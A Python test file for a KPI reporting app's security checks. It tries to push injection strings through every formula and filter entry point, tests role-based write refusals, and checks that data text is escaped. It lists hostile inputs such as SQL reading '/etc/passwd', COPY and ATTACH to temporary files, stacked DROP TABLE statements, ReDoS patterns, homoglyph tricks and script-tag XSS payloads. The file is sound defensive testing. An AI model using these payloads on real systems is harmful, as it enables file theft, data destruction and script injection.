"""Hostile input: injection attempts refused at every door, writes refused to people without
the right role, data text shown as text, downloads that cannot run formulas, uploads checked
for size and type.

Each injection attempt goes through every entry point that takes formula or filter text:
the guard itself (guard_formula, guard_filter), `python -m kpi check` and `compute` on a
kpis.yaml carrying it, and the KPI definitions page (live check, preview and save). Behind
the guard, the read connection itself refuses file access, so a formula that slipped past
the guard still could not read or write a file.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from sqlglot import exp

from kpi import cli
from kpi.analyses import goal_history
from kpi.core.settings import load_settings
from kpi.semantic.formula_guard import FormulaError, guard_filter, guard_formula
from kpi.store.database import Store
from kpi.store.views import view_catalog
from kpi.workflows.definition_versions import check_candidate, entry_text
from tests import hand_fixture

ROOT = Path(__file__).resolve().parents[2]
SPEND = view_catalog(load_settings())["spend"]

# (category, text). Every one must be refused both as a KPI formula and as a row filter.
INJECTIONS: list[tuple[str, str]] = [
    ("file read", "read_csv('/etc/passwd')"),
    (
        "file read",
        "sum(amount) filter (where supplier in (select column0 from read_csv_auto('/etc/passwd')))",
    ),
    ("file read", "length(read_text('/etc/passwd')) > 0"),
    ("file read", "read_parquet('data/kpi.duckdb')"),
    ("file read", "sum(amount) filter (where supplier in (from '/etc/passwd'))"),
    ("file read", 'max("/etc/passwd".amount)'),
    ("attach", "ATTACH '/tmp/other.duckdb' AS other"),
    ("attach", "sum(amount) + 0; ATTACH ':memory:' AS m"),
    ("copy", "COPY (SELECT * FROM invoices) TO '/tmp/leak.csv'"),
    ("pragma", "PRAGMA database_list"),
    (
        "pragma",
        "sum(amount) filter (where supplier in (select name from pragma_table_info('invoices')))",
    ),
    ("set", "SET enable_external_access = true"),
    ("set", "RESET lock_configuration"),
    ("install/load", "INSTALL httpfs"),
    ("install/load", "LOAD '/tmp/evil.duckdb_extension'"),
    ("getenv", "sum(amount) filter (where getenv('HOME') = '/root')"),
    ("getenv", "current_setting('home_directory') = '/root'"),
    (
        "recursive CTE",
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t",
    ),
    (
        "recursive CTE",
        "sum(amount) / (WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n FROM t) "
        "SELECT max(n) FROM t)",
    ),
    ("huge range", "count(*) + (select count(*) from range(1000000000000))"),
    ("huge range", "generate_series(1, 9223372036854775807)"),
    (
        "cross join",
        "sum(amount) * (select count(*) from invoices a, invoices b, invoices c, invoices d)",
    ),
    ("cross join", "unnest(range(100000000)) > 0"),
    ("stacked", "sum(amount); DROP TABLE invoices"),
    ("stacked", "country = 'DE'; DELETE FROM invoices"),
    ("comment", "sum(amount) --\n; ATTACH 'x.db'"),
    ("comment", "sum(amount) /* harmless? */ + 0"),
    ("comment", "country = 'DE' -- and preferred"),
    ("unicode", "sum(\u0430mount)"),  # Cyrillic а
    ("unicode", "\uff53\uff55\uff4d(amount)"),  # full-width ｓｕｍ
    ("unicode", "sum\u200d(amount)"),  # zero-width joiner
    ("unicode", "country = \u2018DE\u2019"),  # homoglyph quotes
    ("unicode", "sum(amount)\uff1b DROP TABLE invoices"),  # full-width semicolon
    ("string escape", "country = 'DE' ; DROP TABLE invoices --'"),
    ("string escape", "country = E'\\x27; DROP TABLE invoices'"),
    ("string escape", "country = $$DE$$"),
    ("lambda/macro", "list_sum(list_transform([amount], x -> x * 2)) > 0"),
    ("lambda/macro", "sum(amount) + my_macro(amount)"),
    ("lambda/macro", "CREATE MACRO leak(x) AS x"),
    (
        "system table",
        "sum(amount) filter (where supplier in (select name from duckdb_settings()))",
    ),
    ("system table", "count(information_schema.tables.table_name)"),
    ("system table", "duckdb_extensions()"),
    ("indirection", "query('SELECT * FROM invoices')"),
    ("indirection", "query_table('invoices')"),
    ("indirection", "getvariable('secret') = 1"),
    ("regex DoS", "regexp_matches(supplier, '(a+)+$')"),
    ("regex DoS", "supplier SIMILAR TO '(a*)*b'"),
    ("very long", "sum(amount) + " * 200 + "0"),
    ("very long", "(" * 60 + "amount" + ")" * 60 + " > 0"),
]
IDS = [f"{n:02d}-{cat}" for n, (cat, _) in enumerate(INJECTIONS, start=1)]

# The guard's reason for each category: a person reads what is wrong, not a stack trace.
REASONS = {
    "file read": ("is not allowed",),
    "attach": ("ATTACH is a SQL statement",),
    "copy": ("COPY is a SQL statement",),
    "pragma": ("PRAGMA is a SQL statement", "subquery"),
    "set": ("SET is a SQL statement", "RESET is a SQL statement"),
    "install/load": ("INSTALL is a SQL statement", "LOAD is a SQL statement"),
    "getenv": ("function getenv()", "function current_setting()"),
    "recursive CTE": ("WITH ... SELECT is a SQL statement", "subquery"),
    "huge range": ("subquery", "function generate_series()"),
    "cross join": ("subquery", "function unnest()"),
    "stacked": ("';' at character",),
    "comment": ("comments ('--', '/* */') are not allowed",),
    "unicode": ("is not allowed: outside 'quoted text' a formula is plain ASCII",),
    "string escape": ("is not allowed",),
    "lambda/macro": ("function list_sum()", "function my_macro()", "CREATE is a SQL statement"),
    "system table": ("subquery", "qualified column", "function duckdb_extensions()"),
    "indirection": ("function query()", "function query_table()", "function getvariable()"),
    "regex DoS": ("function regexp_matches()", "SIMILAR TO"),
    "very long": ("characters long; the limit is 2,000", "parentheses nest more than 20 deep"),
}


def test_the_catalogue_is_big_and_covers_every_category() -> None:
    assert len(INJECTIONS) >= 30
    assert {cat for cat, _ in INJECTIONS} == set(REASONS)


def _clear(message: str, category: str) -> None:
    """One readable reason naming what was refused; never a Python trace."""
    assert any(r in message for r in REASONS[category]), message
    assert "Traceback" not in message and 'File "' not in message


# ---- the guard -----------------------------------------------------------------------------


@pytest.mark.parametrize(("category", "text"), INJECTIONS, ids=IDS)
def test_guard_formula_refuses(category: str, text: str) -> None:
    with pytest.raises(FormulaError) as refused:
        guard_formula(text, SPEND, view="spend")
    _clear(str(refused.value), category)


@pytest.mark.parametrize(("category", "text"), INJECTIONS, ids=IDS)
def test_guard_filter_refuses(category: str, text: str) -> None:
    with pytest.raises(FormulaError) as refused:
        guard_filter(text, SPEND, view="spend")
    _clear(str(refused.value), category)


def test_a_quote_doubled_inside_a_string_stays_one_literal() -> None:
    """'x'' or true or country = ''' is one string, not a way out of it: the guarded tree
    is a single comparison with that text, and that tree is what the engine runs."""
    tree = guard_filter("country = 'x'' or true or country = '''", SPEND)
    assert isinstance(tree, exp.EQ)
    assert tree.expression.is_string
    assert tree.expression.this == "x' or true or country = '"
    assert not list(tree.find_all(exp.Or, exp.Boolean))


def test_a_backslash_cannot_end_a_string_early() -> None:
    """DuckDB does not treat \\ as an escape; text that only parses if it did is refused."""
    with pytest.raises(FormulaError, match="is a quote or comment left open"):
        guard_filter("country = 'x\\' or true or country = '", SPEND)


# ---- kpis.yaml: `python -m kpi check`, `compute` and the definitions page's check --------


def _only_total_spend(target: Path) -> Path:
    """A definitions file holding total_spend alone, as config/kpis.yaml spells it: the
    hostile tests do not depend on the other KPIs (which others edit meanwhile)."""
    block = _block((ROOT / "config" / "kpis.yaml").read_text(encoding="utf-8"), "total_spend")
    target.write_text("version: 1\nkpis:\n" + block, encoding="utf-8")
    return target


def _block(text: str, kpi_id: str) -> str:
    start = text.index(f"  - id: {kpi_id}\n")
    end = text.find("\n  - id: ", start + 1)
    return text[start : end if end > 0 else len(text)].rstrip() + "\n"


def _with_formula(source: Path, target: Path, formulas: dict[str, str]) -> Path:
    """A copy of the definitions where each id in `formulas` gets that formula; new ids are
    added as draft copies of total_spend. Edited as text (YAML 1.1 would read the key
    `on:` of an approval as true if the file went through a loader and a dumper)."""
    text = source.read_text(encoding="utf-8")
    block = _block(text, "total_spend")
    plain = block.replace("    formula: sum(amount)\n", "    formula: {formula}\n")
    plain = plain[: plain.index("    status: agreed")] + "    status: draft\n"
    for kpi_id, formula in formulas.items():
        quoted = json.dumps(formula)  # a JSON string is a YAML double-quoted scalar
        if kpi_id == "total_spend":
            text = text.replace(block, block.replace("formula: sum(amount)", f"formula: {quoted}"))
            continue
        entry = plain.replace("id: total_spend", f"id: {kpi_id}")
        entry = entry.replace("name: Total spend", f"name: Hostile {kpi_id}")
        text = text.rstrip("\n") + "\n\n" + entry.replace("{formula}", quoted)
    target.write_text(text, encoding="utf-8")
    return target


@pytest.mark.parametrize(("category", "text"), INJECTIONS, ids=IDS)
def test_kpi_check_refuses_with_one_clear_message(category, text, tmp_path, capsys) -> None:
    path = _only_total_spend(tmp_path / "kpis.yaml")
    _with_formula(path, path, {"total_spend": text})
    assert cli.main(["check", str(path)]) == 1
    out = capsys.readouterr()
    problems = out.err.splitlines()[:-1]  # the last line counts them
    assert problems, out.err
    assert all("kpi 'total_spend', field 'formula': " in line for line in problems), out.err
    _clear("\n".join(problems), category)
    assert out.err.splitlines()[-1] == f"{path}: {len(problems)} problem(s)"
    assert out.out == ""


@pytest.mark.parametrize(("category", "text"), INJECTIONS, ids=IDS)
def test_definitions_page_check_refuses(category: str, text: str) -> None:
    """check_candidate is what the definitions page runs on every keystroke and before save."""
    entry = yaml.safe_load((ROOT / "config" / "kpis.yaml").read_text("utf-8"))["kpis"][0]
    entry = {k: v for k, v in entry.items() if k != "approvals"} | {"status": "draft"}
    definitions, issues = check_candidate(entry_text({**entry, "formula": text}))
    assert definitions == []
    assert issues and {i.field for i in issues} == {"formula"}
    _clear(" ".join(i.message for i in issues), category)


@pytest.fixture()
def hostile_config(tmp_path, monkeypatch) -> Path:
    """A copy of config/ whose kpis.yaml carries every injection as its own KPI, and a
    hand-fixture store; KPI_CONFIG and KPI_DB point at them."""
    config = tmp_path / "config"
    shutil.copytree(ROOT / "config", config)
    kpis = _only_total_spend(config / "kpis.yaml")
    _with_formula(kpis, kpis, {f"hostile_{n:02d}": t for n, (_, t) in enumerate(INJECTIONS, 1)})
    store = hand_fixture.build(tmp_path / "kpi.duckdb")
    monkeypatch.setenv("KPI_CONFIG", str(config))
    monkeypatch.setenv("KPI_DB", str(store.path))
    return kpis


def _run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "kpi", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_kpi_check_as_a_command_reports_every_injection(hostile_config) -> None:
    run = _run("check", str(hostile_config))
    assert run.returncode == 1
    assert "Traceback" not in run.stderr + run.stdout
    for n, (category, _) in enumerate(INJECTIONS, start=1):
        lines = [ln for ln in run.stderr.splitlines() if f"kpi 'hostile_{n:02d}'" in ln]
        assert lines and all("field 'formula'" in ln for ln in lines), (n, run.stderr)
        _clear("\n".join(lines), category)
    assert "kpi 'total_spend'" not in run.stderr  # only the hostile KPIs are refused


def test_kpi_compute_refuses_to_run_a_file_with_injections(hostile_config) -> None:
    run = _run("compute", "--kpi", "total_spend", "--format", "json")
    assert run.returncode == 1
    assert run.stdout == ""  # no value computed from a file that carries injections
    assert run.stderr.startswith("Error: ")
    assert "Traceback" not in run.stderr
    assert "kpi 'hostile_07', field 'formula'" in run.stderr  # the ATTACH one, by name
    assert "ATTACH is a SQL statement" in run.stderr


# ---- defence in depth: the read connection itself ---------------------------------------


BEHIND_THE_GUARD = [
    ("SELECT * FROM read_csv('/etc/passwd')", "file system operations are disabled"),
    ("SELECT * FROM glob('/etc/*')", "file system operations are disabled"),
    ("COPY (SELECT 1) TO '{tmp}/leak.csv'", "file system operations are disabled"),
    ("ATTACH '{tmp}/other.duckdb' AS other", "file system operations are disabled"),
    ("SET enable_external_access = true", "configuration has been locked"),
    ("RESET lock_configuration", "configuration has been locked"),
    ("INSTALL httpfs", "file system operations are disabled"),
    ("LOAD httpfs", "disabled through configuration"),
    ("CREATE TABLE stolen AS SELECT 1", "read-only mode"),
    ("DELETE FROM invoices", "read-only mode"),
]


@pytest.mark.parametrize(("sql", "refusal"), BEHIND_THE_GUARD)
def test_the_read_connection_refuses_what_slipped_past(sql, refusal, tmp_path) -> None:
    import duckdb

    store = hand_fixture.build(tmp_path / "kpi.duckdb")
    before = store.path.read_bytes()
    with store.read() as con, pytest.raises(duckdb.Error, match=refusal):
        con.execute(sql.format(tmp=tmp_path))
    assert not (tmp_path / "leak.csv").exists() and not (tmp_path / "other.duckdb").exists()
    assert store.path.read_bytes() == before


# ---- the KPI definitions page: live check, preview and save ---------------------------------

FINANCE = "Sam Okafor (finance, member)"


@pytest.fixture()
def page_config(tmp_path, monkeypatch) -> Path:
    """A hand-fixture store and a copy of config/ for the page; returns its kpis.yaml."""
    store = hand_fixture.build(tmp_path / "kpi.duckdb")
    config = tmp_path / "config"
    shutil.copytree(ROOT / "config", config)
    monkeypatch.setenv("KPI_DB", str(store.path))
    monkeypatch.setenv("KPI_CONFIG", str(config))
    return _only_total_spend(config / "kpis.yaml")


@pytest.mark.parametrize(("category", "text"), INJECTIONS, ids=IDS)
def test_edit_kpi_refuses_and_keeps_the_file(category, text, page_config) -> None:
    """The save itself re-checks (a form posted around the disabled button gets no further)."""
    from kpi.core.people import Person
    from kpi.workflows.definition_saves import edit_kpi
    from kpi.workflows.definition_versions import file_version
    from kpi.workflows.definition_writer import InvalidEdit

    sam = Person("sam.okafor@example.org", "Sam Okafor", "finance", "member")
    before = page_config.read_bytes()
    with pytest.raises(InvalidEdit) as refused:
        edit_kpi(
            page_config, sam, "total_spend", {"formula": text}, "try", file_version(page_config)
        )
    _clear(str(refused.value), category)
    assert page_config.read_bytes() == before


# One attempt per category on the page itself (each run renders the whole page).
ON_THE_PAGE = [next(c for c in INJECTIONS if c[0] == cat) for cat in REASONS]


@pytest.mark.parametrize(("category", "text"), ON_THE_PAGE, ids=list(REASONS))
def test_definitions_page_refuses_with_a_clear_error(category, text, page_config) -> None:
    from streamlit.testing.v1 import AppTest

    before = page_config.read_bytes()
    at = AppTest.from_file(str(ROOT / "pages" / "definitions.py"), default_timeout=120)
    at.session_state["acting_as"] = FINANCE
    at.session_state["def_pick"] = "total_spend"
    at.session_state["ed_total_spend_formula"] = text
    at.session_state["ed_total_spend_reason"] = "Trying something"
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    shown = [e.value for e in at.error]
    assert any("formula" in e for e in shown), shown
    _clear("\n".join(shown), category)
    assert not at.get("plotly_chart"), "no preview is computed from a refused formula"
    assert at.button(key="ed_total_spend_save").disabled  # and edit_kpi re-checks: above
    assert page_config.read_bytes() == before


# ---- `python -m kpi terms-sim --where`: a row filter over the suppliers -------------------


@pytest.mark.parametrize(("category", "text"), INJECTIONS, ids=IDS)
def test_terms_sim_where_refuses(category, text, tmp_path, capsys) -> None:
    store = hand_fixture.build(tmp_path / "kpi.duckdb")
    before = store.path.read_bytes()
    argv = ["terms-sim", "--days", "60", "--where", text, "--db", str(store.path)]
    assert cli.main(argv) == 1
    out = capsys.readouterr()
    assert out.out == ""
    assert out.err.startswith("Error: ") and len(out.err.strip().splitlines()) == 1, out.err
    _clear(out.err, category)
    assert store.path.read_bytes() == before


def test_terms_sim_as_a_command_refuses_stacked_statements(tmp_path) -> None:
    store = hand_fixture.build(tmp_path / "kpi.duckdb")
    run = _run(
        "terms-sim", "--days", "60", "--db", str(store.path),
        "--where", "size = 'large'; ATTACH '/tmp/x.duckdb' AS x",
    )  # fmt: skip
    assert run.returncode == 1 and run.stdout == ""
    assert "Traceback" not in run.stderr
    assert "';' at character 15 is not allowed" in run.stderr
    assert "ATTACH is a SQL statement" in run.stderr


# ---- every write path checks the acting person, whatever the page shows --------------------

from datetime import date  # noqa: E402

from kpi.analyses import terms  # noqa: E402
from kpi.core.people import Person  # noqa: E402
from kpi.core.permissions import NOBODY, PermissionDenied  # noqa: E402
from kpi.ingest import upload, upload_checks  # noqa: E402
from kpi.workflows import (  # noqa: E402
    definition_saves,
    definition_versions,
    goals,
    initiative_model,
    initiatives,
    stock_marks,
    terms_proposals,
    threads,
)

LEE = Person("lee.chen@example.org", "Lee Chen", "operations", "viewer")
FIN_VIEWER = Person("fin.viewer@example.org", "Fin Viewer", "finance", "viewer")
OPS_MEMBER = Person("ops.member@example.org", "Ola Ops", "operations", "member")
SAM = Person("sam.okafor@example.org", "Sam Okafor", "finance", "member")
JONAS = Person("jonas.berg@example.org", "Jonas Berg", "procurement", "member")
CARTON = initiative_model.Initiative(
    title="Carton second source",
    kind="price_reduction",
    category="Packaging",
    supplier_id="S1",
    item_id="I1",
    baseline_unit_price="10.50",
    negotiated_unit_price="9.90",
    expected_volume="300",
    currency="EUR",
    start_date="2026-02-01",
    end_date="2026-12-31",
)


def _v(path: Path) -> str:
    return definition_versions.file_version(path)


# (write path, who tries, the call). Everyone here must be refused.
WRITES = [
    ("edit a KPI", p, lambda s, k, p=p: definition_saves.edit_kpi(
        k, p, "total_spend", {"description": "x"}, "why", _v(k)))
    for p in (LEE, FIN_VIEWER, OPS_MEMBER, JONAS)
] + [
    ("add a KPI", p, lambda s, k, p=p: definition_saves.add_kpi(
        k, p, {"id": "new_one", "name": "New", "owner": "finance", "source": "spend",
               "formula": "sum(amount)"}, "why", _v(k)))
    for p in (LEE, OPS_MEMBER, JONAS)
] + [
    ("approve a KPI", p, lambda s, k, p=p: definition_saves.approve_kpi(k, p, "total_spend", _v(k)))
    for p in (LEE, FIN_VIEWER, OPS_MEMBER)
] + [
    ("set a target", p, lambda s, k, p=p: definition_saves.set_target(
        k, p, "total_spend", "FY2026-Q3", 1000, "why", _v(k)))
    for p in (LEE, OPS_MEMBER, JONAS)
] + [
    ("sign a target in the file", p, lambda s, k, p=p: definition_saves.sign_target(
        k, p, "total_spend", "FY2026-Q3", 1000, "why", _v(k)))
    for p in (LEE, FIN_VIEWER, OPS_MEMBER)
] + [
    ("set the price outlook", p, lambda s, k, p=p: goals.set_price_outlook(
        s, p, "FY2026-Q3", "Packaging", 4, "note"))
    for p in (LEE, OPS_MEMBER, SAM)
] + [
    ("propose a target", p, lambda s, k, p=p: goals.propose_target(
        s, p, "FY2026-Q3", "total_spend", 1000, "why"))
    for p in (LEE, FIN_VIEWER, OPS_MEMBER)
] + [
    ("sign a target", p, lambda s, k, p=p: goals.sign_target(
        s, k, p, "FY2026-Q3", "total_spend", 1000, "agreed", _v(k)))
    for p in (LEE, FIN_VIEWER, OPS_MEMBER, None)
] + [
    ("add a savings initiative", p, lambda s, k, p=p: initiatives.save_initiative(s, p, CARTON))
    for p in (LEE, OPS_MEMBER, SAM)
] + [
    ("accept a savings initiative", p, lambda s, k, p=p: initiatives.validate_initiative(
        s, p, "SI1", "accepted", "fine",
        numbers_seen=initiative_model.numbers_hash(initiatives.get_initiative(s, "SI1"))))
    for p in (LEE, OPS_MEMBER, JONAS)
] + [
    ("save a terms scenario", p, lambda s, k, p=p: terms.save_scenario(
        s, p, terms.simulate_terms(s, 60, None), "Move all to 60"))
    for p in (LEE, FIN_VIEWER, OPS_MEMBER)
] + [
    ("load data", p, lambda s, k, p=p: upload.load_upload(
        s, p, "suppliers", [ROOT / "tests" / "fixtures" / "hostile_suppliers.csv"]))
    for p in (LEE, FIN_VIEWER, OPS_MEMBER, None)
] + [
    ("comment on a thread", p, lambda s, k, p=p: threads.post_comment(
        s, p, "kpi:total_spend", "hello @finance"))
    for p in (LEE, FIN_VIEWER, OPS_MEMBER, None)
] + [
    ("resolve a thread", p, lambda s, k, p=p: threads.resolve_thread(s, p, "kpi:total_spend"))
    for p in (LEE, FIN_VIEWER, OPS_MEMBER, None)
] + [
    ("propose payment terms", p, lambda s, k, p=p: terms_proposals.propose(
        s, p, 1, "All to 60 days", "cash"))
    for p in (LEE, OPS_MEMBER, JONAS, None)
] + [
    ("answer a terms proposal", p, lambda s, k, p=p: terms_proposals.respond(
        s, p, 1, 1, [terms_proposals.SupplierAnswer("S1", "accept", "0", "low", "fine")]))
    for p in (LEE, SAM, None)
] + [
    ("revise a terms proposal", p, lambda s, k, p=p: terms_proposals.revise(
        s, p, 1, 1, "why", days_by_supplier={"S1": 45}))
    for p in (LEE, JONAS)
] + [
    ("sign a terms proposal", p, lambda s, k, p=p: terms_proposals.sign(s, p, 1, 1, "agreed"))
    for p in (LEE, FIN_VIEWER, OPS_MEMBER, None)
] + [
    ("withdraw a terms proposal", p, lambda s, k, p=p: terms_proposals.withdraw(s, p, 1, "x"))
    for p in (LEE, JONAS)
] + [
    ("refuse a terms proposal", p, lambda s, k, p=p: terms_proposals.refuse(s, p, 1, "x"))
    for p in (LEE, SAM)
] + [
    ("mark stock", p, lambda s, k, p=p: stock_marks.mark_stock(
        s, p, "I1", "safety", "keep it", date(2099, 1, 1)))
    for p in (LEE, FIN_VIEWER, OPS_MEMBER, SAM, None)
] + [
    ("unmark stock", p, lambda s, k, p=p: stock_marks.unmark_stock(s, p, "I1", "no need"))
    for p in (LEE, SAM)
] + [  # finance loads neither procurement's outlook nor the initiatives it judges
    ("load data", SAM, lambda s, k, t=t: upload.load_upload(
        s, SAM, t, [ROOT / "tests" / "fixtures" / "hostile_suppliers.csv"]))
    for t in ("price_outlook", "savings_initiatives")
]  # fmt: skip


def _files(folder: Path) -> dict[str, bytes]:
    """Every file's bytes; an empty lock file taken around a refused edit is not a change."""
    return {f.name: f.read_bytes() for f in folder.iterdir() if f.is_file() and f.suffix != ".lock"}


@pytest.mark.parametrize(
    ("action", "person", "call"),
    WRITES,
    ids=[f"{a}-{p.email.split('@')[0] if p else 'nobody'}" for a, p, _ in WRITES],
)
def test_write_refused_and_nothing_changes(action, person, call, page_config) -> None:
    store = Store()
    config = page_config.parent
    before = _files(config)
    stored = store.path.read_bytes()
    with pytest.raises(PermissionDenied) as refused:
        call(store, page_config)
    message = str(refused.value)
    who = person.name if person else NOBODY
    assert who in message and ("may not" in message or "cannot" in message), message
    assert _files(config) == before
    assert store.path.read_bytes() == stored


WRITE_CALLS = (
    "store.write", "Store(path).write", "self.write", ".write_text", ".write_bytes",
    "atomic.replace", "atomic.append_line",
)  # fmt: skip


def test_every_write_in_the_library_is_covered() -> None:
    """Each kpi/ function that writes the store or a file is either tested above or is not
    reachable by a person in the app (the demo builder, the CLI load, the store itself)."""
    import ast

    tested = {
        "edit_kpi", "add_kpi", "approve_kpi", "set_target", "sign_target",
        "set_price_outlook", "propose_target", "save_initiative",
        "validate_initiative", "save_scenario", "load_upload", "post_comment",
        "resolve_thread", "propose", "respond", "revise", "sign", "_end", "mark_stock",
        "unmark_stock",
    }  # fmt: skip
    # Not a person's write: the demo builder, the store's own plumbing, the CLI's load (whoever
    # runs the command line can write the store file anyway; the app loads via load_upload),
    # a check on a temporary copy, the atomic writer itself (kpi.core.atomic) and its uses
    # under the checked definition saves and the agreed target's decision row
    # (kpi.workflows.definition_writer, goal_decisions).
    plumbing = {
        "_write", "write", "initialise", "load_files", "check_candidate", "replace",
        "save", "_replace_checked", "_append_history", "record_decision",
        "_temporary_file",  # kpi.ingest.sandbox: the reading child's temporary folder
        # kpi.workflows.backup: the command line's backup and restore (the computer's
        # operator, who can copy the store file anyway; no page offers them)
        "backup", "restore", "_restore_definitions",
        # kpi.reporting.pack_pdf: the command line's meeting pack, written to the file the
        # operator names (--out); no page writes it
        "print_pdf", "write_whole",
        # kpi.semantic.rollups: sums derived from the store after a write that was itself
        # checked (or by the operator's `kpi rollups`); nothing a person typed goes in
        "_write_file", "_write_stamp",
        # kpi.store.catalog_cache: the views' catalogue, derived from the code and the
        # settings only, kept in the user's cache folder; no data and nothing typed
        "_save",
        # kpi.store.lake: the command line's `kpi compact` (merges the lake's files, the same
        # rows) and `kpi migrate`'s publishing of the lake it built (the operator's; no page
        # offers them)
        "compact", "publish",
        # kpi.store.lake / object_lake: a lake's manifest replaced as the last step of
        # `write()` (whose callers are the writes checked here), and what a machine keeps of
        # a lake in S3 in its cache folder: copies of its immutable Parquet files, their
        # lists, the replaced manifest during the after-write hooks; nothing a person typed
        "_replace_manifest", "_set_aside", "_fetch", "ensure_cache", "keep_listing",
    }  # fmt: skip
    writers = set()
    for module in (ROOT / "kpi").rglob("*.py"):
        for node in ast.walk(ast.parse(module.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.FunctionDef):
                continue
            for call in ast.walk(node):
                if not (isinstance(call, ast.Call) and isinstance(call.func, ast.Attribute)):
                    continue
                name = ast.unparse(call.func)
                if name.endswith(WRITE_CALLS) or name == "os.replace":
                    writers.add(node.name)
    assert writers - plumbing <= tested, sorted(writers - plumbing - tested)
    assert {action for action, _, _ in WRITES} == {
        "edit a KPI", "add a KPI", "approve a KPI", "set a target", "sign a target in the file",
        "set the price outlook", "propose a target", "sign a target",
        "add a savings initiative", "accept a savings initiative", "save a terms scenario",
        "load data", "comment on a thread", "resolve a thread", "propose payment terms",
        "answer a terms proposal", "revise a terms proposal", "sign a terms proposal",
        "withdraw a terms proposal", "refuse a terms proposal", "mark stock", "unmark stock",
    }  # fmt: skip


# ---- text from data shows as text ------------------------------------------------------------

from ui.widgets import literal, plot_text  # noqa: E402

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
LINK = "[click me](javascript:alert(3))"
BOLD = "**bold** _claims_ :red[red] $x$"
HOSTILE_TEXT = [SCRIPT, IMG, LINK, BOLD]
TEXT_ELEMENTS = ("markdown", "caption", "info", "warning", "error", "success", "subheader",
                 "header", "title")  # fmt: skip


@pytest.mark.parametrize("text", [*HOSTILE_TEXT, "Müller & Söhne <GmbH>", "a\\*b", "# head"])
def test_literal_escapes_every_markdown_sign(text: str) -> None:
    """Every ASCII punctuation mark gets a backslash (CommonMark shows such a mark as
    itself), so nothing in the text can start markup; removing the backslashes gives the
    text back exactly."""
    import re
    import string

    shown = literal(text)
    assert re.sub(r"\\(.)", r"\1", shown) == text
    unescaped = re.sub(r"\\.", "", shown)
    assert not set(unescaped) & set(string.punctuation), shown


def test_plot_text_writes_tags_as_entities() -> None:
    assert plot_text(SCRIPT) == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert plot_text("Müller & Söhne") == "Müller &amp; Söhne"


def _shown_text(at) -> list[str]:
    """The markdown source of every element that renders markdown, labels included."""
    values = [str(e.value) for kind in TEXT_ELEMENTS for e in at.get(kind)]
    labels = [str(e.label) for kind in ("expander", "metric") for e in at.get(kind)]
    return values + labels


def _assert_literal(at, texts: list[str]) -> None:
    shown = _shown_text(at)
    for text in texts:
        assert not [v for v in shown if text in v], f"{text!r} reached markdown unescaped"
        assert any(literal(text) in v for v in shown), f"{text!r} is not shown at all"


@pytest.fixture()
def hostile_kpis(page_config) -> Path:
    """total_spend with hostile text in every free-text field, proposed (not agreed)."""
    _write_hostile_kpis(page_config)
    return page_config


def test_definitions_page_shows_data_text_literally(hostile_kpis) -> None:
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "pages" / "definitions.py"), default_timeout=120)
    at.session_state["acting_as"] = FINANCE
    at.session_state["def_pick"] = "total_spend"
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    _assert_literal(at, [SCRIPT, IMG, LINK, "Total " + BOLD])


def test_overview_names_a_hostile_kpi_literally(hostile_kpis) -> None:
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "pages" / "overview.py"), default_timeout=120).run()
    assert not at.exception, [e.value for e in at.exception]
    warning = next(w.value for w in at.warning if "Not yet agreed" in w.value)
    assert warning.endswith(literal("Total " + BOLD))
    assert BOLD not in " ".join(_shown_text(at))


def _dialog_app() -> None:
    """A page that opens the KPI definition dialog on the hostile kpis.yaml."""
    from kpi.semantic.definitions import load_definitions
    from ui.widgets import definition_dialog

    kpi = load_definitions()[0]
    definition_dialog(kpi, None, "EUR")


def test_definition_dialog_shows_data_text_literally(hostile_kpis) -> None:
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_function(_dialog_app, default_timeout=60).run()
    assert not at.exception, [e.value for e in at.exception]
    _assert_literal(at, [SCRIPT, IMG, "Total " + BOLD])


@pytest.fixture()
def hostile_store(tmp_path, monkeypatch) -> Store:
    """The hand fixture with hostile supplier names, initiative titles and notes."""
    store = hand_fixture.build(tmp_path / "kpi.duckdb")
    with store.write() as con:
        con.execute("UPDATE suppliers SET supplier_name = ? WHERE supplier_id = 'S1'", [SCRIPT])
        con.execute("UPDATE suppliers SET supplier_name = ? WHERE supplier_id = 'S2'", [LINK])
        con.execute("UPDATE savings_initiatives SET title = ?, finance_note = ?", [IMG, BOLD])
    monkeypatch.setenv("KPI_DB", str(store.path))
    config = tmp_path / "config"
    shutil.copytree(ROOT / "config", config)
    _only_total_spend(config / "kpis.yaml")
    monkeypatch.setenv("KPI_CONFIG", str(config))
    return store


def test_savings_page_keeps_names_and_titles_as_text(hostile_store) -> None:
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "pages" / "savings.py"), default_timeout=120)
    at.session_state["acting_as"] = FINANCE
    at.session_state["bridge_scope"] = "supplier"
    at.session_state["bridge_pick"] = SCRIPT
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    shown = " ".join(_shown_text(at))
    for text in HOSTILE_TEXT:
        assert text not in shown, text
    cells = {str(v) for df in at.dataframe for v in df.value.to_numpy().ravel()}
    assert IMG in cells and BOLD in cells  # the ledger: a table cell is always plain text
    charts = [json.loads(c.proto.spec) for c in at.get("plotly_chart")]
    titles = [c["layout"].get("title", {}).get("text", "") for c in charts]
    assert any(t.startswith("&lt;script&gt;alert(1)&lt;/script&gt;, ") for t in titles), titles


def test_goals_page_shows_a_rationale_literally(hostile_store) -> None:
    from streamlit.testing.v1 import AppTest

    plan = goal_history.default_quarter_to_plan(hostile_store)
    goals.propose_target(hostile_store, SAM, plan, "total_spend", 2300, LINK + " " + IMG)
    at = AppTest.from_file(str(ROOT / "pages" / "goals.py"), default_timeout=120)
    at.session_state["acting_as"] = FINANCE
    at.run()
    assert not at.exception, [e.value for e in at.exception]
